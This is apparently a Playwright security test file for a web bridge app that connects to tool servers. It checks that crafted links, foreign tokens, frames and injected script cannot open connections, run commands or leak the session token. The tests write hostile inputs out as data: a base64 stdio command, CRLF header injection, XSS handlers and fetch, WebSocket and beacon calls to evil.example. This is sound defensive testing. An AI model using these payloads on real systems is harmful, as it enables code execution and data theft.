import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { screenshots } from "./bridge.mjs";
import { assertNothingHappened, ready, startAttack, stateOf } from "./watched.mjs";

let attack;

before(async () => {
  attack = await startAttack();
});

after(() => attack?.stop());

test("a link to the page connects to nothing and starts nothing", async () => {
  const params = Buffer.from(JSON.stringify({ type: "StdioServerParams", command: "/usr/bin/touch", args: [join(attack.folder, "mark")] })).toString("base64");
  const watch = await attack.watched();
  const { page, seen } = watch;
  await page.goto(attack.bridge.url);
  await page.getByTestId("server-card-hostile").waitFor();
  for (const link of [
    `?server_params=${params}`,
    `?server=demo&connect=1&autoconnect=true`,
    `?gatewayUrl=ws://evil.example/&url=http://evil.example/&bridge=http://evil.example`,
    `?token=evil&proxy=http://evil.example&MCP_PROXY_FULL_ADDRESS=http://evil.example`,
    `?transport=stdio&serverCommand=/usr/bin/touch&serverArgs=x`,
    `#server=demo&connect=1`,
    `#connect=${params}`,
    `#server_params=${params}&gatewayUrl=ws://evil.example/`,
    `#/connect?server=demo`,
    `#javascript:window.__pwned=1`,
  ]) {
    await page.goto("about:blank").catch(() => {});
    seen.problems.length = 0;
    seen.requests.length = 0;
    await page.goto(`${attack.bridge.origin}/${link}`);
    await page.getByTestId("server-card-hostile").waitFor();
    assert.equal(await stateOf(page), "idle", link);
    assert.equal(await page.getByTestId("consent").count(), 0, link);
    assert.deepEqual(seen.sockets, [], link);
    assert.deepEqual([...new Set(seen.requests.map(({ method }) => method))], ["GET"], link);
    assert.ok(seen.requests.every(({ authorization }) => authorization === undefined || authorization === `Bearer ${attack.bridge.token}`), link);
    await assertNothingHappened(watch);
  }
  assert.doesNotMatch(attack.bridge.log(), /session opened/);
  await page.context().close();
});

test("a link with a foreign token replaces none that works, and locks nobody out", async () => {
  const watch = await attack.watched();
  const { page, seen } = watch;
  await page.goto(attack.bridge.url);
  await page.getByTestId("server-card-hostile").waitFor();
  const kept = () => page.evaluate(() => sessionStorage.getItem("footbridge.token"));
  for (const link of ["/#token=evil", "/?x=1#token=evil", "/#token=evil&server=demo"]) {
    await page.goto(`${attack.bridge.origin}${link}`);
    await page.getByTestId("other-token").waitFor();
    assert.equal(await kept(), attack.bridge.token, link);
    assert.equal(new URL(page.url()).hash, "", link);
  }
  assert.ok(seen.requests.every(({ authorization }) => authorization !== "Bearer evil"), "it was not even tried");
  await page.screenshot({ path: `${screenshots}other-token-light.png` });
  // Even a person who takes it keeps the way back.
  await page.getByTestId("take-token").click();
  await page.getByTestId("token-prompt").waitFor();
  assert.equal(await kept(), attack.bridge.token);
  await page.reload();
  await page.getByTestId("server-card-hostile").waitFor();

  const fresh = await attack.watched();
  await fresh.page.goto(`${attack.bridge.origin}/#token=evil`);
  await fresh.page.getByTestId("token-prompt").waitFor();
  assert.equal(await fresh.page.evaluate(() => sessionStorage.length), 0, "a refused token is not kept");
  await fresh.page.goto(attack.bridge.url);
  await fresh.page.getByTestId("server-card-hostile").waitFor();
  for (const broken of ["a%0d%0aX-Evil:%201", "%00", "%E2%80%AE"]) {
    await fresh.page.goto(`${attack.bridge.origin}/#token=${broken}`);
    await fresh.page.getByTestId("server-card-hostile").waitFor();
  }
  await assertNothingHappened(fresh);
  await assertNothingHappened(watch);
  await fresh.page.context().close();
  await page.context().close();
});

test("the token is in this tab's storage and nowhere else", async () => {
  const watch = await attack.watched();
  const { page, seen } = watch;
  const served = await page.goto(attack.bridge.url);
  assert.ok(!(await served.text()).includes(attack.bridge.token));
  await page.getByTestId("connect-hostile").click();
  await ready(page);
  const found = await page.evaluate(() =>
    JSON.stringify([location.href, history.state, document.referrer, document.documentElement.outerHTML, document.cookie, window.name, { ...localStorage }]),
  );
  assert.ok(!found.includes(attack.bridge.token));
  const history = await page.context().newCDPSession(page).then((session) => session.send("Page.getNavigationHistory"));
  // What Chromium remembers as typed is the address before the page replaced it; the entry itself is clean.
  assert.ok(history.entries.every(({ url }) => !url.includes(attack.bridge.token)));
  assert.ok([...seen.requests.map(({ url }) => url.split("#")[0]), ...seen.sockets].every((url) => !url.includes(attack.bridge.token)));
  assert.ok(await page.evaluate((token) => Object.values(sessionStorage).includes(token), attack.bridge.token));

  // A frame has no way to it: none can be made, not even by a script of the page.
  const frames = await page.evaluate(async () => {
    const outcomes = [];
    for (const set of [(frame) => (frame.srcdoc = "<script>parent.__pwned = 1</script>"), (frame) => (frame.src = "data:text/html,x"), (frame) => (frame.src = "/"), (frame) => (frame.src = URL.createObjectURL(new Blob(["x"], { type: "text/html" })))]) {
      const frame = document.createElement("iframe");
      try {
        set(frame);
      } catch {
        outcomes.push("no such frame");
        continue;
      }
      const loaded = new Promise((resolve) => (frame.onload = resolve));
      document.body.append(frame);
      await loaded;
      let storage = "unreadable";
      try {
        storage = frame.contentWindow.sessionStorage.length > 0 ? "readable" : "empty";
      } catch {}
      outcomes.push(storage);
      frame.remove();
    }
    return outcomes;
  });
  assert.deepEqual(frames, ["no such frame", "unreadable", "unreadable", "unreadable"]);
  await page.context().close();
});

test("markup has a second lock: text that becomes markup by mistake does not run either", async () => {
  const watch = await attack.watched();
  const { page } = watch;
  await page.goto(attack.bridge.url);
  await page.getByTestId("server-card-hostile").waitFor();
  const outcomes = await page.evaluate(async () => {
    const tries = {
      innerHTML: () => (document.createElement("div").innerHTML = "<img src=x onerror='window.__pwned=1'>"),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
      write: () => document.write("<b>x</b>"),
      fragment: () => document.createRange().createContextualFragment("<b>x</b>"),
      parser: () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
      eval: () => (0, eval)("window.__pwned=1"),
      Function: () => new Function("window.__pwned=1")(),
      timeout: () => setTimeout("window.__pwned=1"),
      worker: () => new Worker("data:text/javascript,1"),
      policy: () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
      handler: () => document.createElement("img").setAttribute("onerror", "window.__pwned=1"),
      script: () => (document.createElement("script").src = "https://evil.example/x.js"),
    };
    const outcomes = {};
    for (const [name, attempt] of Object.entries(tries)) {
      // In a task of its own: a debugger may evaluate text, and so may what it calls.
      await new Promise((resolve) => setTimeout(resolve));
      try {
        attempt();
        outcomes[name] = "allowed";
      } catch {
        outcomes[name] = "refused";
      }
    }
    const blocked = (url) => fetch(url).then(() => "allowed", () => "refused");
    outcomes.fetch = await blocked("https://evil.example/");
    outcomes.image = await new Promise((resolve) => Object.assign(new Image(), { onload: () => resolve("allowed"), onerror: () => resolve("refused"), src: "http://evil.example/x.png" }));
    try {
      outcomes.socket = await new Promise((resolve) => Object.assign(new WebSocket("ws://evil.example/"), { onopen: () => resolve("allowed"), onerror: () => resolve("refused") }));
    } catch {
      outcomes.socket = "refused";
    }
    outcomes.beacon = navigator.sendBeacon("https://evil.example/", "x") ? "sent" : "refused";
    return outcomes;
  });
  const { beacon, ...rest } = outcomes;
  assert.deepEqual([...new Set(Object.values(rest))], ["refused"], JSON.stringify(outcomes));
  const directives = await page.evaluate(() => [...new Set(window.__violations.map((line) => line.split(" ")[0]))].sort());
  for (const directive of ["connect-src", "img-src", "require-trusted-types-for", "trusted-types"]) assert.ok(directives.includes(directive), `${directive} in ${directives}`);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.equal(attack.elsewhere.knocks, watch.knocks, "nobody else was asked");
  await page.context().close();
});

